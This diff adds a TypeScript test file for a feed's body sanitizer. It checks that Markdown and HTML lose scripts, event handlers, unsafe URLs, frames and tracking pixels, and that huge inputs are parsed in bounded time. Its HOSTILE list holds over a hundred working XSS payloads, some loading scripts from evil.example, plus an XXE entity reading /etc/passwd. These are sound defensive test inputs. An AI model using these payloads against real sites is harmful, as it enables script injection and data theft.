@@ -1,0 +1,520 @@
+// Bodies: what Markdown and HTML come out as, with nothing left that could run, follow or mislead a reader.
+import fc from 'fast-check'
+import type { Element } from 'hast'
+import { fromHtml } from 'hast-util-from-html'
+import { toText } from 'hast-util-to-text'
+import { visit } from 'unist-util-visit'
+import { describe, expect, it } from 'vitest'
+import { makeBody } from '../../../src/content/body.ts'
+import { readFiles } from '../support/folder.ts'
+
+const LINK = 'https://portal.example/2026/03/a.html'
+
+/** The article whose file has this body below its front matter. */
+async function articleOf(source: string, name = 'a.html') {
+  const matter = `---\ntitle: A\nurl: ${LINK}\npublished: 2026-03-09T08:30:00Z\n---\n`
+  const { articles, problems } = await readFiles({ [name]: matter + source })
+  expect(problems.filter(({ severity }) => severity === 'error')).toEqual([])
+  return articles[0] as (typeof articles)[number]
+}
+
+const htmlOf = async (source: string, name?: string) => (await articleOf(source, name)).html
+
+const ELEMENTS = new Set(
+  (
+    'a abbr audio b bdi bdo blockquote br cite code col colgroup dd del details dfn div dl dt em ' +
+    'figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p picture pre q rp rt ruby s ' +
+    'samp section small source span strike strong sub summary sup table tbody td tfoot th thead ' +
+    'time tr track tt u ul var video wbr'
+  ).split(' '),
+)
+/** As properties of the DOM. */
+const ATTRIBUTES = new Set(
+  (
+    'align alt cite className colSpan controls dateTime dir height href hrefLang kind label lang ' +
+    'media open poster rel reversed rowSpan scope sizes span src srcLang srcSet start title type ' +
+    'value width'
+  ).split(' '),
+)
+const ADDRESSES = ['cite', 'href', 'poster', 'src']
+const SCHEMES = ['http:', 'https:', 'mailto:', 'tel:']
+
+/** The addresses of a `srcset`, as HTML §4.8.4.2.1 reads it. */
+function candidates(srcset: string): string[] {
+  const urls: string[] = []
+  let rest = srcset.replace(/^[\s,]+/, '')
+  while (rest !== '') {
+    const url = /^\S+/.exec(rest)?.[0] ?? ''
+    rest = rest.slice(url.length)
+    urls.push(url.replace(/,+$/, ''))
+    if (!url.endsWith(',')) rest = rest.replace(/^[^,]*/, '')
+    rest = rest.replace(/^[\s,]+/, '')
+  }
+  return urls
+}
+
+function addressesOf({ properties }: Element): string[] {
+  return [
+    ...ADDRESSES.filter((name) => properties[name] !== undefined).map((name) =>
+      String(properties[name]),
+    ),
+    ...candidates([properties.srcSet ?? ''].flat().join(', ')),
+  ]
+}
+
+/** What a browser would find in the HTML, read as a part of a page and as a page, that has no place in a feed. */
+function leftovers(html: string): string[] {
+  const found: string[] = []
+  for (const fragment of [true, false]) {
+    visit(fromHtml(html, { fragment }), (node) => {
+      if (node.type !== 'element') {
+        if (node.type !== 'root' && node.type !== 'text') found.push(node.type)
+        return
+      }
+      const { tagName, properties } = node
+      const isFrame = !fragment && ['html', 'head', 'body'].includes(tagName)
+      if (!ELEMENTS.has(tagName) && !isFrame) found.push(`<${tagName}>`)
+      for (const name of Object.keys(properties)) {
+        if (!ATTRIBUTES.has(name) || /^on/i.test(name)) found.push(`${tagName} ${name}`)
+      }
+      for (const address of addressesOf(node)) {
+        if (!URL.canParse(address) || !SCHEMES.includes(new URL(address).protocol)) {
+          found.push(`${tagName} → ${address}`)
+        }
+      }
+    })
+  }
+  return found
+}
+
+const HOSTILE: string[] = [
+  // Scripts.
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<script\n>alert(1)</script\n>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script>alert(1)',
+  '<script/src=data:,alert(1)>',
+  '<p><script type="module">import "//evil.example"</script></p>',
+  '<xmp><script>alert(1)</script></xmp>',
+  '<noscript><script>alert(1)</script></noscript>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<textarea><script>alert(1)</script></textarea>',
+  '<title><script>alert(1)</script></title>',
+  '<plaintext><script>alert(1)</script>',
+  '<noembed><script>alert(1)</script></noembed>',
+  '<noframes><script>alert(1)</script></noframes>',
+  '<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>',
+  '<select><script>alert(1)</script><option>x</select>',
+  // Event handlers.
+  '<img src=x onerror=alert(1)>',
+  '<img src=x OnErRoR=alert(1)>',
+  '<img/src=x/onerror=alert(1)>',
+  '<img src=x\nonerror\n=\nalert(1)>',
+  '<img src="x"onerror="alert(1)">',
+  '<img src=`x` onerror=alert(1)>',
+  '<body onload=alert(1)><p>Text</p></body>',
+  '<p onclick="alert(1)" onmouseover=alert(2) onfocus=alert(3) tabindex=0 autofocus>Text</p>',
+  '<details open ontoggle=alert(1)><summary>Text</summary></details>',
+  '<video src=x onloadstart=alert(1)><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1) autoplay>',
+  '<marquee onstart=alert(1)>Text</marquee>',
+  '<a href="/x" ping="//evil.example/" onclick=alert(1)>Text</a>',
+  // Addresses that run.
+  '<a href="javascript:alert(1)">Text</a>',
+  '<a href="JaVaScRiPt:alert(1)">Text</a>',
+  '<a href="  javascript:alert(1)">Text</a>',
+  '<a href="\u0001javascript:alert(1)">Text</a>',
+  '<a href="java\tscript:alert(1)">Text</a>',
+  '<a href="java\nscript:alert(1)">Text</a>',
+  '<a href="java&#10;script:alert(1)">Text</a>',
+  '<a href="java&Tab;script&colon;alert(1)">Text</a>',
+  '<a href="&#106;&#97;vascript:alert(1)">Text</a>',
+  '<a href="&#x6A&#x61vascript:alert(1)">Text</a>',
+  '<a href="&#0000106avascript:alert(1)">Text</a>',
+  '<a href=javascript&#58;alert(1)>Text</a>',
+  '<a href="vbscript:msgbox(1)">Text</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">Text</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Text</a>',
+  '<a href="blob:https://portal.example/1">Text</a>',
+  '<a href="file:///etc/passwd">Text</a>',
+  '<a href="feed:javascript:alert(1)">Text</a>',
+  '<a href="view-source:https://portal.example/">Text</a>',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img src=/a.png srcset="javascript:alert(1) 2x, data:image/png;base64,AAAA 3x">',
+  '<img src=/a.png srcset="/a.png 1x,javascript:alert(1) 2x">',
+  '<img src=/a.png srcset="data:image/png;base64,AAAA 1x">',
+  '<video poster="javascript:alert(1)" src="data:video/mp4,x"></video>',
+  '<blockquote cite="javascript:alert(1)">Text</blockquote>',
+  '<q cite="data:text/html,x">Text</q>',
+  '<body background="javascript:alert(1)">',
+  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">Text</table>',
+  '[Text](javascript:alert(1))',
+  '[Text](<java\tscript:alert(1)>)',
+  '![Text](data:image/svg+xml;base64,PHN2Zz4=)',
+  '<javascript:alert(1)>',
+  '[Text]: javascript:alert(1)\n\n[Text]',
+  // Foreign elements.
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script xlink:href="data:,alert(1)"/></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>Text</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
+  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
+  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<math href="javascript:alert(1)">x</math>',
+  // What changes its meaning when it is parsed again.
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<math><mi><xmp></math><img src=x onerror=alert(1)></xmp>',
+  '<svg><desc><noscript></svg><img src=x onerror=alert(1)></noscript>',
+  '<noscript><style></noscript><img src=x onerror=alert(1)>',
+  '<table><td><noembed><p title="</noembed><img src=x onerror=alert(1)>">',
+  '<p title="</p><img src=x onerror=alert(1)>">Text</p>',
+  '<img alt="`><img src=x onerror=alert(1)>" src=/a.png>',
+  '<a title="&quot;><img src=x onerror=alert(1)>" href=/x>Text</a>',
+  '&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
+  // Comments, and things that look like some.
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--[if IE]><script>alert(1)</script><![endif]-->',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?php echo "<img src=x onerror=alert(1)>" ?>',
+  '</ <img src=x onerror=alert(1)>',
+  // Half-open tags.
+  '<img src=x onerror=alert(1)//',
+  '<p>Text<a href="javascript:alert(1)',
+  '<<script>alert(1)//<</script>',
+  '<iframe src="https://evil.example/"',
+  '<div\u0001onclick=alert(1)>Text',
+  // Styles.
+  '<style>body{display:none}</style>',
+  '<style>@import "//evil.example/x.css"',
+  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">Text</p>',
+  '<div style="width:expression(alert(1))" class="header" id="top">Text</div>',
+  '<link rel=stylesheet href="//evil.example/x.css">',
+  // Frames, forms and what speaks for the whole page.
+  '<iframe src="https://evil.example/"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<frameset><frame src="javascript:alert(1)"></frameset>',
+  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
+  '<embed src="//evil.example/x.swf">',
+  '<applet code="X.class"></applet>',
+  '<form action="javascript:alert(1)"><input name=q autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">Text</button></form>',
+  '<input type=image src=x onerror=alert(1)>',
+  '<isindex action="javascript:alert(1)" type=image>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//"><a href="/x">Text</a>',
+  '<link rel=import href="//evil.example/">',
+  '<portal src="//evil.example/"></portal>',
+  '<dialog open>Text</dialog>',
+  '<x-widget onclick=alert(1)>Text</x-widget>',
+]
+
+describe('nothing hostile is left in a body, read as Markdown and as HTML', () => {
+  it.each(HOSTILE)('%s', async (source) => {
+    expect(leftovers(await htmlOf(source, 'a.html'))).toEqual([])
+    expect(leftovers(await htmlOf(source, 'a.md'))).toEqual([])
+  })
+
+  it('nor in any that is put together from such parts', () => {
+    const parts = fc.array(
+      fc.oneof(
+        fc.constantFrom(...HOSTILE),
+        fc.constantFrom(
+          '<p>',
+          '</p>',
+          '<b>',
+          '</svg>',
+          '<table>',
+          '<td>',
+          '-->',
+          '"',
+          "'",
+          '`',
+          '\n\n',
+          '> ',
+          '* ',
+        ),
+        fc.string({ unit: 'binary', maxLength: 8 }),
+      ),
+      { maxLength: 6 },
+    )
+    fc.assert(
+      fc.property(parts, fc.constantFrom('html', 'markdown'), (some, form) => {
+        const { html } = makeBody({ form, source: some.join('') }, absolute)
+        expect(leftovers(html)).toEqual([])
+      }),
+      { numRuns: 300 },
+    )
+  })
+
+  it('which these tests would see', () => {
+    expect(leftovers('<script>1</script>')).toContain('<script>')
+    expect(leftovers('<p onclick=x>')).toContain('p onClick')
+    expect(leftovers('<a href="java\tscript:x">')).toContain('a → java\tscript:x')
+    expect(leftovers('<img src="/a.png">')).toContain('img → /a.png')
+    expect(leftovers('<img srcset="https://a.example/ 1x,data:x 2x">')).toContain('img → data:x')
+    expect(leftovers('<!-- x -->')).toContain('comment')
+    expect(leftovers('<p title=x>a <a href="https://a.example/">b</a>')).toEqual([])
+  })
+})
+
+function absolute(reference: string): string | undefined {
+  const address = URL.canParse(reference, LINK) ? new URL(reference, LINK) : undefined
+  return address !== undefined && SCHEMES.includes(address.protocol) ? address.href : undefined
+}
+
+describe('the words stay', () => {
+  it.each([
+    ['a form', '<form>One <button>two</button> <label>three</label></form>', 'One two three'],
+    [
+      'elements out of fashion',
+      '<center><font color=red>One</font> <big>two</big></center>',
+      'One two',
+    ],
+    ['elements of one’s own', '<x-a>One <x-b>two</x-b></x-a>', 'One two'],
+    [
+      'styled and named elements',
+      '<p id=a class=b style="color:red">One <span>two</span></p>',
+      'One two',
+    ],
+    ['a link that leads nowhere', '<a href="javascript:x">One</a> two', 'One two'],
+    [
+      'a page',
+      '<html><head></head><body><article><p>One two</p></article></body></html>',
+      'One two',
+    ],
+    ['what looks like an entity', 'One &amp;nbsp; two', 'One &nbsp; two'],
+    ['what looks like a tag', '<code>&lt;b&gt;</code> two', '<b> two'],
+    ['signs of two directions', '<p>\u202Eone\u202C \u200Btwo</p>', '\u202Eone\u202C \u200Btwo'],
+    ['e\u0301 and 👩‍👩‍👧', '<p>e\u0301 👩‍👩‍👧</p>', 'e\u0301 👩‍👩‍👧'],
+  ])('of %s', async (_, source, words) => {
+    const { html, text } = await articleOf(source)
+    expect(toText(fromHtml(html, { fragment: true })).trim()).toBe(words)
+    expect(text).toBe(words)
+  })
+})
+
+describe('Markdown', () => {
+  it.each([
+    ['emphasis', 'a *b* **c** `d`', '<p>a <em>b</em> <strong>c</strong> <code>d</code></p>'],
+    ['text struck out', 'a ~~b~~', '<p>a <s>b</s></p>'],
+    ['a heading', '## A', '<h2>A</h2>'],
+    ['HTML in it', 'a <mark>b</mark>', '<p>a <mark>b</mark></p>'],
+    [
+      'a bare address',
+      'https://a.example/b',
+      '<p><a href="https://a.example/b">https://a.example/b</a></p>',
+    ],
+    ['code in a language', '```js\na\n```', '<pre><code class="language-js">a\n</code></pre>'],
+    ['a line --- below', 'a\n\n---\n\nb', '<p>a</p>\n<hr>\n<p>b</p>'],
+  ])('%s', async (_, source, html) => expect(await htmlOf(source, 'a.md')).toBe(html))
+
+  it('a table', async () => {
+    const html = await htmlOf('| A | B |\n| --- | --- |\n| 1 | ~~2~~ |\n', 'a.md')
+    expect(html.replaceAll('\n', '')).toBe(
+      '<table><thead><tr><th>A</th><th>B</th></tr></thead>' +
+        '<tbody><tr><td>1</td><td><s>2</s></td></tr></tbody></table>',
+    )
+  })
+})
+
+describe('every address is absolute', () => {
+  it.each([
+    ['<a href="b.html">x</a>', ['https://portal.example/2026/03/b.html']],
+    ['<a href="/b">x</a>', ['https://portal.example/b']],
+    ['<a href="../b">x</a>', ['https://portal.example/2026/b']],
+    ['<a href="?q=1">x</a>', [`${LINK}?q=1`]],
+    ['<a href="#b">x</a>', [`${LINK}#b`]],
+    ['<a href="//b.example/c">x</a>', ['https://b.example/c']],
+    ['<a href="\\\\b.example\\c">x</a>', ['https://b.example/c']],
+    ['<a href="HTTP://b.example">x</a>', ['http://b.example/']],
+    ['<a href="mailto:a@b.example">x</a>', ['mailto:a@b.example']],
+    ['<a href="tel:+1">x</a>', ['tel:+1']],
+    ['<a href="/新闻 1">x</a>', ['https://portal.example/%E6%96%B0%E9%97%BB%201']],
+    ['<base href="https://evil.example/"><a href="b">x</a>', ['https://portal.example/2026/03/b']],
+    ['<img src="b.png">', ['https://portal.example/2026/03/b.png']],
+    ['<img src="//b.example/b.png">', ['https://b.example/b.png']],
+    [
+      '<video src="b.mp4" poster="/b.png"></video>',
+      ['https://portal.example/b.png', 'https://portal.example/2026/03/b.mp4'],
+    ],
+    ['<audio><source src="b.mp3"></audio>', ['https://portal.example/2026/03/b.mp3']],
+    [
+      '<video src="/b.mp4"><track src="b.vtt"></video>',
+      ['https://portal.example/b.mp4', 'https://portal.example/2026/03/b.vtt'],
+    ],
+    ['<blockquote cite="/b">x</blockquote>', ['https://portal.example/b']],
+    [
+      '<img src="/b.png" srcset="b.png 1x, //c.example/c.png 2x">',
+      [
+        'https://portal.example/b.png',
+        'https://portal.example/2026/03/b.png',
+        'https://c.example/c.png',
+      ],
+    ],
+    [
+      '<img srcset="/b.png 480w,/c.png 800w" sizes="50vw">',
+      ['https://portal.example/b.png', 'https://portal.example/c.png'],
+    ],
+    [
+      '<img srcset="/b.png,\n  /c.png 2x">',
+      ['https://portal.example/b.png', 'https://portal.example/c.png'],
+    ],
+    ['<img srcset="/b,c.png 2x">', ['https://portal.example/b,c.png']],
+    [
+      '<picture><source srcset="/b.webp 1x,/c.webp 2x" type="image/webp"><img src="/b.png"></picture>',
+      [
+        'https://portal.example/b.webp',
+        'https://portal.example/c.webp',
+        'https://portal.example/b.png',
+      ],
+    ],
+  ])('%s', async (source, expected) => {
+    const addresses: string[] = []
+    visit(fromHtml(await htmlOf(source), { fragment: true }), 'element', (node) => {
+      addresses.push(...addressesOf(node))
+    })
+    expect(addresses).toEqual(expected)
+  })
+
+  it('in Markdown, too', async () => {
+    expect(await htmlOf('[x](b) ![y](/c.png) [z](//d.example)', 'a.md')).toBe(
+      '<p><a href="https://portal.example/2026/03/b">x</a> ' +
+        '<img src="https://portal.example/c.png" alt="y"> ' +
+        '<a href="https://d.example/">z</a></p>',
+    )
+  })
+
+  it('a file of the folder has the address at which it is served', async () => {
+    const matter = '---\ntitle: A\npublished: 2026-03-09T08:30:00Z\n---\n'
+    const { articles } = await readFiles({
+      'news/a.md': `${matter}![b](b.png) ![c](../c.png) ![d](/d.png?v=1) ![e](my%20e.png)`,
+      'news/b.png': 'b',
+      'c.png': 'c',
+      'd.png': 'd',
+      'news/my e.png': 'e',
+    })
+    expect(articles[0]?.files).toEqual(['c.png', 'd.png', 'news/b.png', 'news/my e.png'])
+    const addresses: string[] = []
+    visit(fromHtml(articles[0]?.html ?? '', { fragment: true }), 'element', (node) => {
+      addresses.push(...addressesOf(node))
+    })
+    expect(addresses).toEqual(
+      ['news/b.png', 'c.png', 'd.png', 'news/my%20e.png'].map(
+        (path) => `http://127.0.0.1:8080/media/${path}`,
+      ),
+    )
+  })
+})
+
+describe('pictures that nobody sees are gone', () => {
+  it.each([
+    '<img src="https://t.example/p.gif" width="1" height="1">',
+    '<img src="https://t.example/p.gif" width=0 height=0>',
+    '<img src="https://t.example/p.gif" width="1px" height="1px">',
+    '<img src="https://t.example/p.gif" height="1">',
+    '<img src="https://t.example/p.gif" style="width:1px;height:1px">',
+    '<img src="https://t.example/p.gif" style="width: 0; height: 0; border: 0">',
+    '<img src="https://t.example/p.gif" style="display:none">',
+    '<img src="https://t.example/p.gif" style="VISIBILITY: hidden">',
+    '<img src="https://t.example/p.gif" hidden>',
+    '<noscript><img src="https://t.example/p.gif"></noscript>',
+    '<img srcset="https://t.example/p.gif 1x" width=1 height=1>',
+    '<img alt="nowhere">',
+    '<img src="">',
+    '<img src="javascript:alert(1)">',
+  ])('%s', async (source) => {
+    expect(await htmlOf(`<p>One${source} two.</p>`)).toBe('<p>One two.</p>')
+  })
+
+  it.each([
+    '<img src="https://a.example/a.png" width="640" height="480">',
+    '<img src="https://a.example/a.png">',
+    '<img src="https://a.example/a.png" width="100%">',
+  ])('while others stay: %s', async (source) => {
+    expect(await htmlOf(`<p>${source}</p>`)).toBe(`<p>${source}</p>`)
+  })
+
+  it('two in a row, too', async () => {
+    const pixel = '<img src="https://t.example/p.gif" width=1 height=1>'
+    expect(await htmlOf(`<p>${pixel}${pixel}${pixel}One.</p>`)).toBe('<p>One.</p>')
+  })
+})
+
+describe('what XML would stumble over', () => {
+  it.each(['a.md', 'a.html'])('named entities come out as characters, in %s', async (name) => {
+    const html = await htmlOf(
+      '<p>a&nbsp;b&mdash;c&copy;d&hellip;e &notanentity; &lt;&amp;</p>',
+      name,
+    )
+    expect(
+      html.match(/&[a-z]\w*;/gi)?.filter((found) => !/^&(lt|gt|amp|quot|apos);$/.test(found)) ?? [],
+    ).toEqual([])
+    expect(toText(fromHtml(html, { fragment: true })).trim()).toBe(
+      'a\u00A0b—c©d…e &notanentity; <&',
+    )
+  })
+
+  it.each(['a.md', 'a.html'])('declarations are text or gone, in %s', async (name) => {
+    const { html, text } = await articleOf(
+      '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n\n<p>One &e; two</p>',
+      name,
+    )
+    expect(leftovers(html)).toEqual([])
+    expect(text).toContain('One &e; two')
+    expect(html).not.toMatch(/<[?!]/)
+  })
+
+  it('control characters and noncharacters are gone, and nothing closes a CDATA section', async () => {
+    const html = await htmlOf('<p>a\u0007b\u000Bc\uFFFEd&#x1F;e ]]> f</p>')
+    expect(html).toBe('<p>abcde ]]&gt; f</p>')
+  })
+})
+
+/** Milliseconds: "bounded" for what an attacker wrote. */
+const PATIENCE = 4000
+
+describe('a monstrous body is read in bounded time, and takes no other article down', () => {
+  it.each([
+    ['5 MB of <b>', 'a.html', () => '<b>'.repeat(5_000_000 / 3)],
+    ['<div> 100,000 deep', 'a.html', () => '<div>'.repeat(100_000)],
+    [
+      '<div> 100,000 deep, each closed',
+      'a.html',
+      () => `${'<div>'.repeat(100_000)}x${'</div>'.repeat(100_000)}`,
+    ],
+    ['<span> 100,000 deep in Markdown', 'a.md', () => '<span>'.repeat(100_000)],
+    ['quotations 100,000 deep', 'a.md', () => `${'>'.repeat(100_000)} x`],
+    ['100,000 open brackets', 'a.md', () => '['.repeat(100_000)],
+    ['100,000 open links', 'a.html', () => '<a href=x>'.repeat(50_000)],
+  ])('%s', { timeout: 60_000 }, async (_, name, body) => {
+    const matter = (title: string) =>
+      `---\ntitle: ${title}\npublished: 2026-03-09T08:30:00Z\nid: ${title}\n---\n`
+    const files = { [name]: matter('Monster') + body(), 'good.md': `${matter('Good')}Text.\n` }
+    const start = performance.now()
+    const { articles, problems } = await readFiles(files)
+    expect(performance.now() - start).toBeLessThan(PATIENCE)
+    expect(articles.find(({ title }) => title === 'Good')?.html).toBe('<p>Text.</p>')
+    const monster = articles.find(({ title }) => title === 'Monster')
+    if (monster === undefined) expect(problems).toMatchObject([{ severity: 'error', file: name }])
+    else expect(leftovers(monster.html.slice(0, 20_000))).toEqual([])
+  })
+
+  it('and what is shown of it is text that XML can carry', async () => {
+    const { html } = await articleOf(
+      `a\u0007\uFFFEb]]>${'<div>'.repeat(15_000)}${'🦉'.repeat(20_000)}`,
+      'a.md',
+    )
+    expect(html).not.toBe('')
+    expect(
+      html.match(/[\u0000-\u0008]|\p{Surrogate}|\p{Noncharacter_Code_Point}|\]\]>/gu),
+    ).toBeNull()
+  })
+})
